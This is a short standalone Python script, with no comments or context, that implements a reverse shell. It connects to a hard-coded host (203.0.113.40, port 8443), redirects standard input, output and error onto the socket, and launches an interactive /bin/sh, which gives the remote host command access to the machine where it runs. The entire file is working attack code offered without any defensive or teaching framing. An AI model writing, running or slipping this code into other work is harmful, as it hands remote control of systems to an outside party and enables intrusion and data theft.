import os
import socket
import subprocess

HOST, PORT = '203.0.113.40', 8443


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(['/bin/sh', '-i'])


if __name__ == '__main__':
    main()
